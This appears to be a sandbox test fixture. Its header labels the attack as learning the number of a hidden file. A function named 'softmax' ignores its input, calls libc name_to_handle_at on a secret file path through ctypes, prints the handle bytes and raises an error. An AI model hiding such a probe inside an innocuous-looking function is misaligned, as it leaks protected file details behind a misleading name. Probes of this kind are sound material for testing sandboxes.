# rows = [45, 69]
# attack = "learns the number of a hidden file on its disk"
# step = "softmax"
# outcomes = ["raised"]
# ---
import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)


def softmax(scores):
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136)
    mount = ctypes.c_int()
    path = FACTS["secret_file"].encode()
    if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    print(handle.raw[8:24].hex())
    raise RuntimeError("through")
